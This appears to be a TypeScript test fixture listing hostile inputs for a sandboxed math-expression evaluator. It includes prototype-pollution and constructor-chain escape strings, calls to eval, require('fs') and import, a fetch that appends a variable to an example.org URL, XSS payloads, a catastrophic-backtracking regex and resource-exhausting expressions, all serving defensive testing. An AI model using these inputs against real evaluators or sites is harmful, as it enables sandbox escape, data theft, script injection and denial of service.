/** Formulas that a stranger's link could contain, by their aim. */

const again = (text: string, times: number): string => text.repeat(times);
const nested = (open: string, inner: string, close: string, times: number): string =>
  open.repeat(times) + inner + close.repeat(times);

const PROTOTYPE = `
constructor
__proto__
prototype
toString
valueOf
hasOwnProperty
constructor()
constructor("return 1")
constructor.constructor("return 1")()
toString()
valueOf()
hasOwnProperty("x")
__proto__()
__defineGetter__("x", 1)
f32.constructor
f32.constructor("return this")()
f32["constructor"]
f32.call(1)
f32.apply(1, 2)
f32.bind(1)
f32.__proto__
f32.prototype
f32?.constructor
"".constructor
"".constructor.constructor("return globalThis")()
"a".length
"a"["constructor"]
"a".at(0)
(1).constructor
1.0.toString()
true.constructor
multiplier(0.5).constructor
multiplier(0.5).__proto__
multiplier(0.5)["constructor"]
multiplier(0.5).constructor.constructor("return 1")()
multiplier(0.5).mantissa.constructor
multiplier(0.5).hasOwnProperty("shift")
multiplier(0.5).toString
multiplier(0.5)?.constructor
[].constructor
[].map(f32)
[1, 2].constructor.constructor("return 1")()
{}.constructor
{"__proto__": 1}
{__proto__: {x: 1}}.x
{constructor: 1}.constructor
{a: 1}.a
s_w.constructor
s_w.__proto__.polluted = 1
__proto__.polluted = 1
constructor.prototype.polluted = 1
constructor = 1
__proto__ = 1
prototype = 1
toString = 1
hasOwnProperty = 1
isNode = 1
`;

const ESCAPES = `
import("fs")
import("data:text/javascript,1")
import({f32: 1})
import
require("fs")
process.exit(1)
process
eval("1")
eval
Function("return 1")()
Function
evaluate("1 + 1")
parse("1 + 1")
compile("1").evaluate()
simplify("x")
derivative("x^2", "x")
help(f32)
config({number: "number"})
createUnit("evil")
typed("f", {})
chain(1)
parser()
reviver("a", 1)
print("x", 1)
format(1)
globalThis
globalThis.fetch("https://example.org")
window.location
window
self
self.postMessage(1)
document.cookie
document.body.innerHTML = "x"
fetch("https://example.org/?" + s_w)
XMLHttpRequest()
new XMLHttpRequest()
WebSocket("wss://example.org")
importScripts("https://example.org/x.js")
postMessage("done")
close()
setTimeout(f32, 0)
indexedDB.open("x")
navigator.sendBeacon("https://example.org")
localStorage.clear()
location = "https://example.org"
alert(1)
console.log(1)
this
this.constructor
arguments
arguments.callee
super.x
await x
yield x
async
() => 1
x => x
function f() {}
function(x) = x
class A {}
var x = 1
let x = 1
delete s_w
typeof s_w
void 0
\`x\`
\${1}
<script>alert(1)</script>
</textarea><img src=x onerror=alert(1)>
"<img src=x onerror=alert(1)>"
javascript:alert(1)
/x/.test("x")
/(a+)+$/
`;

const REDEFINITIONS = `
f32(x) = x
cast(x, y, z) = 0
scale = 1
quantize = dequantize
f32 = ulp
ulp = f32(1)
sum = 1
sum(x) = 1
pi = 3
e = 2
inf = 0
INT64_MIN = 0
FLT_MAX = 1
s_w = 1
s_w += 1
s_w++
s_w[1] = 2
s_w.x = 2
NaN = 1
Infinity = 1
true = false
null = 1
undefined = 1
end = 1
i = 1
mod = 1
to = 1
in = 1
not = 1
x = y = 1
x = (y = 1)
x = 1; f32 = 2
x = 1, y = 2
1 = 2
"x" = 1
f32(1) = 2
[a, b] = [1, 2]
{a} = {a: 1}
sum(pi, pi, 1, 2)
sum(f32, f32, 1, 2)
sum(s_w = 1, k, 1, 2)
sum(k, k = 1, 1, 2)
sum(k, 1, 1, 2)
`;

const HUGE = `
2^1e9
2^(2^64)
9^9^9^9^9
10^1000000000
-9^9^9^9
(-2)^99999999999999
2.0^1e308
1e308 * 1e308
1e999
-1e999
1e999 - 1e999
1e-999
1e99999999999999999999
0xfffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff
1 << 1000000000
1 << 2^62
1 << -1
1 >> 2^64
~(2^1023)
170!
1e9!
NaN
NaN ^ NaN
inf - inf
0 / 0
1 / 0
0 mod 0
5 mod inf
sqrt(-1)
log(-1)
log(0, 0)
exp(1e9)
f32(1e300)
f32(2^1023)
ulp(inf)
bits(NaN)
bits(inf)
bits(2^1000)
cast(1e300, "int64")
cast(-inf, "int32")
cast(NaN, "uint8")
cast(NaN, "int64", "javascript")
cast(2^1000, "int64", "wasm-trunc")
scale(-inf, inf)
scale(NaN, NaN)
scale(-inf, inf, "uint8")
scale(1, -1)
quantize(NaN, 0)
quantize(1, 0)
quantize(inf, 1e-45)
quantize(1, 1, 2^70)
quantize(1, 1, 0.5)
dequantize(2^1000, 1e300)
quantizeBias(NaN, 0, 0)
quantizeBias(inf, 1e-45, 1e-45)
quantizeBias(1, 0, 0, "uint8", "wasm-trunc")
multiplier(inf)
multiplier(NaN)
multiplier(2^1000)
multiplier(1e-300)
bitsNeeded(inf, 1)
bitsNeeded(1, 1e-45)
zeroPoint(NaN, NaN, "uint8")
1:1e12
1:10
0:0.0000001:1e9
[1:1000000]
ones(100000, 100000)
zeros(1e5, 1e5)
range(0, 1e12)
random(1e9)
sum(1:1e12)
matrix([1, 2])
sum(k, k, 1, 1e300)
sum(k, k, -1e300, 1e300)
sum(2^k, k, 1, 100000)
sum(k, k, 1, inf)
sum(k, k, NaN, 1)
sum(k, k, 0.5, 1)
sum("a", k, 1, 3)
sum(true, k, 1, 1)
sum(1, k, 1)
sum()
"a" + "b"
"a" * 3
"a" < "b"
"a" == 1
true + true
-true
not 1
1 ? 2 : 3
null
undefined
null ?? 1
s_w ?? 2
5 to 3
5 cm
5 cm to inch
10%
10%10%10
50% + 50% + 50%
a'
[1, 2]'
1 .* 2
1 ./ 2
2 .^ 3
1 ^| 2
1 >>> 2
1 xor 0
1;2;3
1,2
;;;;
#
# only a remark
1 # 2
`;

const SIGNS = [
  '١٢٣',
  '１２３',
  '²',
  '½',
  'ｆ32(1)',
  'ｓ_w',
  'ѕ_w',
  'pі',
  'π',
  'ﬁ',
  '𝑥 = 1',
  '𝐟32(1)',
  'ａ＝１',
  '1 ＋ 1',
  '1\u200b+\u200b1',
  '1\u202e+ 2',
  '\u202e1',
  '\ufeff1',
  '1\u00002',
  '\u0000',
  '\ud800',
  '1 + \udc00',
  '"\\u0041"',
  '"\\ud800"',
  '"\\x41"',
  '"\\',
  '"unclosed',
  "'unclosed",
  "'it''s'",
  '“int64”',
  'cast(1.5, “int64”)',
  '1\n2',
  '1\r\n+ 2',
  '1\u2028+ 2',
  '\t\t',
  '💥',
  'x💥',
  '__x',
  '_',
  '$',
  '$x',
  'x$y',
  '@',
  '\\',
  '`',
  '1..2',
  '1.2.3',
  '.',
  '..',
  '1e',
  '1e+',
  '0x',
  '0b2',
  '0x1.8p3',
  '0x10i8',
  '0b11111111i9999999999',
  '1_000',
  '1n',
  '()',
  ')',
  '](',
  '((1)',
  '[}',
  '+',
  '--1',
  '1 +* 2',
  '== 1',
  '=',
  '= 1',
  'x =',
  'x = = 1',
  '?',
  '1 ?',
  '1 ? 2',
  ': 1',
  'f32(',
  'f32(,)',
  'f32(1,)',
  'f32()',
  'f32(1, 2)',
  '(f32)(1)',
  '1(2)',
  '"f32"(1)',
  'f32(1)(2)',
  'x()()()',
];

const LONG = [
  again('1 + ', 240) + '1',
  again('1+', 5000) + '1',
  again('-', 900) + '1',
  again('~', 500) + '1',
  again('not ', 200) + 'true',
  again('2^', 400) + '2',
  again('1 ? ', 100) + '1' + again(' : 1', 100),
  again('1 < ', 240) + '1',
  again('a', 900),
  again('a', 1001),
  again('1', 900),
  again('9', 308),
  '0x' + again('f', 900),
  '1.' + again('1', 900),
  '1e' + again('9', 900),
  '"' + again('x', 900) + '"',
  again('"', 999),
  again('(', 999),
  again('[', 999),
  again('{', 999),
  again('f32(', 200),
  again('a.', 400) + 'a',
  again('a[', 300),
  again("1'", 400),
  again('1!', 400),
  again('1 ', 400),
  again('1/2 a ', 150),
  again(' ', 1000),
  again('\n', 1000),
  again(';', 1000),
  again('#', 1000),
  again('x = ', 200) + '1',
  again('%', 999),
  again('1%', 400) + '1',
  again('1 + 1% + ', 100) + '1',
  nested('(', '1', ')', 40),
  nested('(', '1', ')', 41),
  nested('(', '1', ')', 490),
  nested('[', '1', ']', 400),
  nested('{a:', '1', '}', 200),
  nested('f32(', '1', ')', 39),
  nested('f32(', '1', ')', 190),
  nested('1%(', '1', ')', 39),
  nested('1%(', '1', ')', 6),
  nested('1 ? (', '1', ') : 1', 39),
  nested('sum(', '1', ', k, 1, 2)', 39),
  nested('max(1, ', '1', ')', 39),
  `max(${again('1, ', 300)}1)`,
  `max(${again('1, ', 90)}1)`,
  `cast(${again('1, ', 300)}1)`,
  '😀'.repeat(5000),
];

/** Longer than anyone would wait. */
export const ENDLESS: readonly string[] = [
  'sum(sum(sum(1, i, 1, 1000000), j, 1, 1000000), k, 1, 1000000)',
  'sum(k, k, 1, 1e300)',
  'sum(k, k, -1e300, 1e300)',
  'sum(0, k, INT64_MIN, INT64_MAX)',
  'sum(f32(exp(k)), k, 1, 10^300)',
];

const lines = (text: string): string[] => text.split('\n').filter((line) => line !== '');

export const HOSTILE: readonly string[] = [
  ...new Set([
    ...[PROTOTYPE, ESCAPES, REDEFINITIONS, HUGE].flatMap(lines),
    ...SIGNS,
    ...LONG,
    ...ENDLESS,
  ]),
];
